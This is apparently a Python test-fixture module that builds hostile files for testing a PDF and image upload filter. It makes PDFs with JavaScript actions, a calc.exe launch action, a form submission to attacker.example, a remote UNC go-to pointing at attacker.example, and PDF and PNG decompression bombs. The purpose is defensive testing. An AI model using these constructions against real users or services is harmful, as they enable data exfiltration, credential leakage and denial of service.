"""Hostile files, made by the tests themselves (nothing downloaded): PDFs with active
content in each place a viewer looks for it, PDF and image decompression bombs."""

from __future__ import annotations

import io
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)


def _name(value: str) -> NameObject:
    return NameObject(value)


def javascript_action(script: str = "app.alert(1)") -> DictionaryObject:
    return DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject(script)})


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    return writer


def plain_pdf(pages: int = 1) -> bytes:
    return _write(_writer(pages))


def _link(writer: PdfWriter, action: DictionaryObject, *, key: str = "/A") -> bytes:
    """A link annotation on the first page whose action (or additional action) is ``action``."""
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]),
            _name(key): action if key == "/A" else DictionaryObject({_name("/U"): action}),
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def page_additional_action_javascript() -> bytes:
    """JavaScript run when the first page opens (/AA /O on the page, not the catalogue)."""
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): javascript_action()})
    return _write(writer)


def link_annotation_javascript() -> bytes:
    return _link(_writer(), javascript_action())


def link_annotation_additional_action() -> bytes:
    return _link(_writer(), javascript_action(), key="/AA")


def launch_action() -> bytes:
    action = DictionaryObject({_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("calc.exe")})
    return _link(_writer(), action)


def submit_form_action() -> bytes:
    action = DictionaryObject(
        {_name("/S"): _name("/SubmitForm"), _name("/F"): TextStringObject("https://attacker.example/collect")}
    )
    return _link(_writer(), action)


def import_data_action() -> bytes:
    action = DictionaryObject({_name("/S"): _name("/ImportData"), _name("/F"): TextStringObject("data.fdf")})
    return _link(_writer(), action)


def remote_goto_action() -> bytes:
    action = DictionaryObject(
        {_name("/S"): _name("/GoToR"), _name("/F"): TextStringObject("\\\\attacker.example\\share\\x.pdf")}
    )
    return _link(_writer(), action)


def javascript_uri_link() -> bytes:
    action = DictionaryObject({_name("/S"): _name("/URI"), _name("/URI"): TextStringObject(" JavaScript:app.alert(1)")})
    return _link(_writer(), action)


def web_link() -> bytes:
    """An ordinary link to a web page: not active content."""
    action = DictionaryObject({_name("/S"): _name("/URI"), _name("/URI"): TextStringObject("https://www.canada.ca/")})
    return _link(_writer(), action)


def open_action_javascript() -> bytes:
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = javascript_action()
    return _write(writer)


def document_level_javascript() -> bytes:
    """A script in the catalogue's /Names /JavaScript tree (run when the document opens)."""
    writer = _writer()
    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("hello"), writer._add_object(javascript_action())])}
    )
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): writer._add_object(tree)})
    return _write(writer)


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.html", b"<script>alert(1)</script>")
    return _write(writer)


def acroform_field_javascript() -> bytes:
    """A form field whose keystroke action is JavaScript (/AA /K), in the AcroForm."""
    writer = _writer()
    field = DictionaryObject(
        {
            _name("/FT"): _name("/Tx"),
            _name("/T"): TextStringObject("name"),
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Widget"),
            _name("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]),
            _name("/AA"): DictionaryObject({_name("/K"): javascript_action()}),
        }
    )
    reference = writer._add_object(field)
    writer.pages[0][_name("/Annots")] = ArrayObject([reference])
    writer._root_object[_name("/AcroForm")] = DictionaryObject({_name("/Fields"): ArrayObject([reference])})
    return _write(writer)


def xfa_form() -> bytes:
    writer = _writer()
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): writer._add_object(xfa)}
    )
    return _write(writer)


ACTIVE_PDFS = {
    "page additional action (JavaScript)": page_additional_action_javascript,
    "link annotation with JavaScript": link_annotation_javascript,
    "link annotation with an additional action": link_annotation_additional_action,
    "launch action": launch_action,
    "submit-form action": submit_form_action,
    "import-data action": import_data_action,
    "remote go-to action": remote_goto_action,
    "javascript: link": javascript_uri_link,
    "open action (JavaScript)": open_action_javascript,
    "document-level JavaScript": document_level_javascript,
    "embedded file": embedded_file,
    "form field JavaScript": acroform_field_javascript,
    "XFA form": xfa_form,
}


def _flate_stream(inflated_size: int) -> StreamObject:
    """A content stream of zeros that inflates to ``inflated_size`` bytes, compressed in
    slices so that the test never holds the inflated bytes."""
    compressor = zlib.compressobj(9)
    slice_ = b"\0" * (1 << 20)
    parts = []
    for _ in range(inflated_size // len(slice_)):
        parts.append(compressor.compress(slice_))
    parts.append(compressor.flush())
    stream = StreamObject()
    stream._data = b"".join(parts)
    stream[_name("/Filter")] = _name("/FlateDecode")
    stream[_name("/Length")] = NumberObject(len(stream._data))
    return stream


def pdf_bomb(*, streams: int = 1, inflated_mb_each: int = 150) -> bytes:
    """A PDF of a few hundred kilobytes whose page content inflates to ``streams`` ×
    ``inflated_mb_each`` megabytes."""
    writer = _writer()
    contents = [writer._add_object(_flate_stream(inflated_mb_each << 20)) for _ in range(streams)]
    writer.pages[0][_name("/Contents")] = ArrayObject(contents)
    return _write(writer)


def pdf_with_image(width: int, height: int) -> bytes:
    """A page showing an image XObject that declares ``width`` × ``height`` pixels (a JPEG
    in the PDF: the pixel count is checked without decoding)."""
    writer = _writer()
    image = StreamObject()
    image._data = b"\xff\xd8\xff\xe0" + b"\0" * 64
    image.update(
        {
            _name("/Type"): _name("/XObject"),
            _name("/Subtype"): _name("/Image"),
            _name("/Width"): NumberObject(width),
            _name("/Height"): NumberObject(height),
            _name("/ColorSpace"): _name("/DeviceRGB"),
            _name("/BitsPerComponent"): NumberObject(8),
            _name("/Filter"): _name("/DCTDecode"),
            _name("/Length"): NumberObject(len(image._data)),
        }
    )
    page = writer.pages[0]
    page[_name("/Resources")] = DictionaryObject(
        {_name("/XObject"): DictionaryObject({_name("/Im0"): writer._add_object(image)})}
    )
    return _write(writer)


def pixel_bomb_png(width: int = 7_000, height: int = 6_000) -> bytes:
    """42 megapixels of one colour: a PNG of about a hundred kilobytes that would take
    over 120 MB to decode."""
    buffer = io.BytesIO()
    Image.new("L", (width, height), 255).save(buffer, format="PNG", optimize=False)
    return buffer.getvalue()


def png(width: int = 600, height: int = 400) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 210, 230)).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg(width: int = 600, height: int = 400) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 210, 230)).save(buffer, format="JPEG")
    return buffer.getvalue()
